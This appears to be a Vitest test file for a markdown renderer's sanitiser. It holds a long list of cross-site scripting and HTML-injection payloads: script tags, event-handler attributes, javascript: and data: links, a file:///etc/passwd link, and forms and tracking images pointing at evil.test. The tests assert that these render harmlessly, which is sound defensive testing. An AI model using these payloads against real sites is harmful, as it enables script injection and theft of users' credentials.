import { describe, expect, test } from "vitest";
import { renderMarkdown } from "@/lib/platform/markdown";

const hostile = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.test></sCrIpT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<p onclick=alert(1)>x</p>",
  "<body onload=alert(1)>",
  "<svg onload=alert(1)><animate onbegin=alert(1) /></svg>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
  "<form action=//evil.test><input name=password></form>",
  "<a href='javascript:alert(1)'>x</a>",
  "<base href=//evil.test><link rel=stylesheet href=//evil.test><meta http-equiv=refresh content=0>",
  "<style>*{display:none}</style><div style='position:fixed;inset:0'>x</div>",
  "<!-- <script>alert(1)</script> -->",
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><!DOCTYPE html><script>alert(1)</script>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](javascript&#58;alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](file:///etc/passwd)",
  "[x]: javascript:alert(1)\n\n[x]",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "![x](https://evil.test/counter.png)",
  '![x](x "onerror=alert(1)")',
  '[x](https://a.test "\' onmouseover=alert(1)")',
  "[x](https://a.test' onclick='alert(1))",
  "**<img src=x onerror=alert(1)>**",
  "> <script>alert(1)</script>",
  "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
  "`<script>alert(1)</script>`",
  "```html onload=alert(1)\n<script>alert(1)</script>\n```",
  "[^1]\n\n[^1]: <script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "\u2028<script>alert(1)</script>\u2029",
  "**[x](javascript:alert(1)**",
  "[[x](javascript:alert(1))](javascript:alert(2))",
];

/** Tags of the result without the text of titles: what is no tag or attribute is text and can do nothing. */
function tagsOf(html: string): string[] {
  return (html.match(/<[^>]*>/g) ?? []).map((tag) => tag.replace(/ title="[^"]*"/, ""));
}

describe("a hostile text", () => {
  test.each(hostile)("%j does nothing", (text) => {
    for (const tag of tagsOf(renderMarkdown(text).html)) {
      expect(tag).not.toMatch(
        /^<\/?(?:script|style|iframe|object|embed|svg|math|form|base|link|meta|img|body)\b/i,
      );
      expect(tag).not.toMatch(/\son\w+\s*=|\sstyle\s*=|(?:java|vb)script:|data:|file:|srcdoc/i);
    }
  });

  test.each(hostile)("%j does nothing either when it is kept as typed", (text) => {
    const { html } = renderMarkdown(`${text}\n${"*".repeat(2_000)}`);
    expect(tagsOf(html).filter((tag) => !/^<(?:\/?p|br)>$/.test(tag))).toEqual([]);
  });
});

describe("a text of good intent", () => {
  test("keeps its formatting; headings start below the page's own", () => {
    const { html } = renderMarkdown("# Uno\n\n- **a**\n- [b](https://a.test)\n\n| x |\n|---|\n| 1 |");
    expect(html).toContain("<h3>Uno</h3>");
    expect(html).toContain("<strong>a</strong>");
    expect(html).toContain('<a href="https://a.test" rel="nofollow noopener ugc">b</a>');
    expect(html).toContain('<table class="prose-table">');
  });

  test("may quote and list as deep as people do", () => {
    const depth = 20;
    const quotes = renderMarkdown(`${">".repeat(depth)} a`).html.match(/<blockquote>/g);
    expect(quotes).toHaveLength(depth);
    const list = Array.from({ length: depth }, (_, level) => `${"  ".repeat(level)}- a`).join("\n");
    expect(renderMarkdown(list).html.match(/<ul>/g)).toHaveLength(depth);
  });

  test("is not taken for an intricate one because it is long", () => {
    const text = "Un **grassetto**, un [collegamento](https://a.test), un elenco.\n\n".repeat(700);
    expect(renderMarkdown(text).html).toContain("<strong>");
  });
});

describe("a text too intricate is kept as typed, at once", () => {
  const heavy: Record<string, string> = {
    "10,000 nested quotes": `${">".repeat(10_000)} a`,
    "10,000 nested quotes with spaces": `${"> ".repeat(10_000)}a`,
    "10,000 nested lists": `${"- ".repeat(10_000)}a`,
    "10,000 nested numbers": `${"1. ".repeat(10_000)}a`,
    "25,000 open brackets": `${"[".repeat(25_000)}${"]".repeat(25_000)}`,
    "nested emphasis": `${"*a **b ".repeat(3_000)}${"c** d*".repeat(3_000)}`,
    "a wide table": `${"|a".repeat(20_000)}\n${"|-".repeat(20_000)}`,
  };

  test.each(Object.entries(heavy))("%s", (_, text) => {
    const { html } = renderMarkdown(text);
    expect(html.startsWith("<p>") && html.endsWith("</p>")).toBe(true);
    expect(tagsOf(html).length).toBeLessThan(10);
  });
});
